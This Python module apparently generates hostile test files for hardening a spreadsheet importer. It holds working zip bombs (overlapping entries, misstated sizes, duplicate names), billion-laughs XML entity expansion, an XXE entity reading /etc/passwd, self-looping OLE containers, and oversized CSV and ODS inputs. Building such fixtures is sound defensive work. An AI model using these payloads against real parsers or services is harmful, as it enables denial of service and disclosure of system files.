"""Files made to harm whoever opens them. Each maker writes one file; none holds anything worth reading.

After D. Fifield, "A better zip bomb" (USENIX WOOT 2019), the XML attacks collected by defusedxml, and
calamine's issue 693 (a stray cell makes a sheet of 500 GB).
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path

MB = 1024**2
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = 'xmlns="http://schemas.openxmlformats.org/package/2006/content-types"'
RELATIONS = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
SHEET = f"<worksheet {MAIN}><sheetData>%s</sheetData></worksheet>"
CELL = '<c r="%s" t="inlineStr"><is><t>户主姓名</t></is></c>'
ODS = (
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><office:body><office:spreadsheet>'
    '<table:table table:name="a">%s</table:table></office:spreadsheet></office:body>'
    "</office:document-content>"
)
Parts = dict[str, str | bytes]


def parts(sheet: str | bytes = SHEET % "", sheets: int = 1, **more: str | bytes) -> Parts:
    """The parts of a small workbook; `more` replaces parts by their name without its ending."""
    listed = "".join(f'<sheet name="s{n}" sheetId="{n}" r:id="r{n}"/>' for n in range(1, sheets + 1))
    related = "".join(
        f'<Relationship Id="r{n}" Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>'
        for n in range(1, sheets + 1)
    )
    office = f'<Relationship Id="o" Type="{OFFICE}/officeDocument" Target="xl/workbook.xml"/>'
    strings = f'<Relationship Id="s" Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml"/>'
    made: Parts = {
        "[Content_Types].xml": f"<Types {TYPES}/>",
        "_rels/.rels": f"<Relationships {RELATIONS}>{office}</Relationships>",
        "xl/workbook.xml": f'<workbook {MAIN} xmlns:r="{OFFICE}"><sheets>{listed}</sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f"<Relationships {RELATIONS}>{related}{strings}</Relationships>",
        "xl/sharedStrings.xml": f"<sst {MAIN}/>",
        "xl/styles.xml": f"<styleSheet {MAIN}/>",
        "xl/worksheets/sheet1.xml": sheet,
    }
    return made | {f"xl/{name}.xml": content for name, content in more.items()}


def packed(content: Mapping[str, str | bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """The parts as a zip archive."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as archive:
        for name, data in content.items():
            archive.writestr(name, data)
    return file.getvalue()


def lying(claim: int) -> bytes:
    """A sheet of 30 MB whose entry claims another size, in the local header and in the directory."""
    true = SHEET % ("<row>" + " " * 30 * MB + "</row>")
    data = bytearray(packed(parts(true)))
    real = struct.pack("<I", len(true.encode()))
    at = data.find(real)
    while at >= 0:
        data[at : at + 4] = struct.pack("<I", claim)
        at = data.find(real, at + 4)
    return bytes(data)


def overlapping() -> bytes:
    """Fifield's trick in its plain form: a thousand directory entries share one body."""
    body = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = body.compress(bytes(5 * MB)) + body.flush()
    crc, name = zlib.crc32(bytes(5 * MB)), b"xl/workbook.xml"
    sizes = struct.pack("<III", crc, len(kernel), 5 * MB)
    local = struct.pack("<4s5H", b"PK\x03\x04", 20, 0, 8, 0, 0) + sizes + struct.pack("<HH", len(name), 0)
    directory = b""
    for n in range(1000):
        called = name if n == 0 else f"xl/part{n}.xml".encode()
        fields = struct.pack("<4s6H", b"PK\x01\x02", 20, 20, 0, 8, 0, 0) + sizes
        directory += fields + struct.pack("<5HII", len(called), 0, 0, 0, 0, 0, 0) + called
    start = local + name + kernel
    end = struct.pack("<4s4HIIH", b"PK\x05\x06", 0, 0, 1000, 1000, len(directory), len(start), 0)
    return start + directory + end


def encrypted() -> bytes:
    """A small workbook with the mark of a password on every part."""
    data = bytearray(packed(parts()))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + place] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def laughs(root: str) -> str:
    """The element with a text of 10**11 characters: entities that each hold ten of the one before."""
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "哈">{entities}]>' + root.replace(
        "></", ">&l11;</"
    )


def twice() -> bytes:
    """Two parts of one name, so that the one that is judged need not be the one that is read."""
    first = packed(parts())
    file = io.BytesIO(first)
    with zipfile.ZipFile(file, "a") as archive:
        entry = zipfile.ZipInfo("xl/worksheets/sheet2.xml")
        archive.writestr(entry, SHEET % CELL)
    return file.getvalue().replace(b"sheet2.xml", b"sheet1.xml")


def compound(streams: str, sector: int = 0) -> bytes:
    """An OLE container of one directory sector; `sector` is what every chain points at: itself, for ever."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
    head += struct.pack("<HHHHH6xIIII", 0x3E, 3, 0xFFFE, 9, 6, 0, 1, sector, 0)
    head += struct.pack("<IIIII", 4096, sector, 1, sector, 1) + struct.pack("<I", sector) * 109
    name = streams.encode("utf-16-le").ljust(64, b"\0")
    entry = name + struct.pack("<HBB", len(streams) * 2 + 2, 2, 1) + struct.pack("<I", 0) * 12
    return head[:512] + struct.pack("<I", sector) * 128 + entry[:128] * 4


def rows(count: int) -> str:
    """So many rows of a different number each, so that they pack no better than honest ones."""
    return SHEET % "".join(f"<row><c><v>{n * 48_271 % 2**31}</v></c></row>" for n in range(count))


def tags(count: int, *, deep: bool) -> str:
    """So many tags, one inside the other or side by side, their names different for the same reason."""
    close = "" if deep else "/"
    return "".join(f"<t{n * 48_271 % 2**31}{close}>" for n in range(count))


BOMBS: dict[str, Callable[[], bytes]] = {
    "200 MB of blanks in a sheet.xlsx": lambda: packed(parts(b" " * 200 * MB)),
    "100 MB of one letter as a text.xlsx": lambda: packed(parts(sharedStrings=b"a" * 100 * MB)),
    "a sheet larger than it claims.xlsx": lambda: lying(1000),
    "a sheet smaller than it claims.xlsx": lambda: lying(31 * MB),
    "a thousand parts with one body.xlsx": overlapping,
    "sixty thousand parts.xlsx": lambda: packed(parts() | {f"xl/media/{n}": "" for n in range(60_000)}),
    "two parts of one name.xlsx": twice,
    "a password on every part.xlsx": encrypted,
    "packed with LZMA.xlsx": lambda: packed(parts(), zipfile.ZIP_LZMA),
    "packed with bzip2.xlsx": lambda: packed(parts(), zipfile.ZIP_BZIP2),
    "entities that grow tenfold.xlsx": lambda: packed(parts(laughs(SHEET % CELL))),
    "entities in the texts.xlsx": lambda: packed(parts(sharedStrings=laughs(f"<sst {MAIN}><si/></sst>"))),
    "entities in UTF-16.xlsx": lambda: packed(parts(laughs(SHEET % (CELL % "A1")).encode("utf-16"))),
    "an entity that reads a file.xlsx": lambda: packed(
        parts(f'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>{SHEET % "&f;"}')
    ),
    "a cell in the farthest corner.xlsx": lambda: packed(
        parts(SHEET % f'<row r="1">{CELL % "A1"}</row><row r="1048576">{CELL % "XFD1048576"}</row>')
    ),
    "a cell in the last column.xlsx": lambda: packed(parts(SHEET % f'<row r="1">{CELL % "XFD1"}</row>')),
    "four hundred sheets.xlsx": lambda: packed(parts(sheets=400)),
    "420,000 rows.xlsx": lambda: packed(parts(rows(420_000))),
    "a million tags deep.xlsx": lambda: packed(parts(SHEET % tags(10**6, deep=True))),
    "a million styles and no sheet.xlsx": lambda: packed(
        parts(styles=f"<styleSheet {MAIN}>{tags(10**6, deep=False)}</styleSheet>")
    ),
    "rows repeated for ever.ods": lambda: packed(
        {
            "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
            "META-INF/manifest.xml": "<manifest/>",
            "content.xml": ODS
            % (
                '<table:table-row table:number-rows-repeated="1048576"><table:table-cell '
                'table:number-columns-repeated="16384" office:value-type="float" office:value="1"/>'
                "</table:table-row>"
            ),
        }
    ),
    "cut off in the middle.xlsx": lambda: packed(parts())[:-200],
    "no workbook inside.xlsx": lambda: packed({"readme.txt": "nothing"}),
    "a Word document.xlsx": lambda: packed({"word/document.xml": "<w/>"}),
    "a binary workbook.xlsx": lambda: packed({"xl/workbook.bin": b"\x83\x01\x00"}),
    "encrypted as Excel does.xlsx": lambda: compound("EncryptedPackage"),
    "a chain that bites its tail.xls": lambda: compound("Workbook"),
    "a web page.xls": lambda: b"<html><table>" + b"<tr><td>1</td></tr>" * 1000,
    "a program.csv": lambda: b"MZ" + bytes(5000),
    "packed with gzip.csv": lambda: b"\x1f\x8b\x08" + bytes(5000),
    "a line without end.csv": lambda: "户主姓名,姓名,".encode() * MB,
    "a quotation without end.csv": lambda: '户主姓名,姓名\n"'.encode() + b"a,b\n" * (2 * MB),
    "420,000 lines.csv": lambda: "户主姓名,姓名\n".encode() + b"a,b\n" * 420_000,
    "zeros.csv": lambda: "户主姓名,姓名\n".encode() + bytes(10 * MB),
    "no encoding at all.csv": lambda: "户主姓名,姓名\n".encode() + b"\xff\xfe\x80" * MB,
    "nothing.csv": lambda: b"",
}
"""How to make each file; the ending of the name is the file's."""


def write_bomb(name: str, folder: Path) -> Path:
    """Make one of the files; returns its path."""
    path = folder / f"bomb{Path(name).suffix}"
    path.write_bytes(BOMBS[name]())
    return path
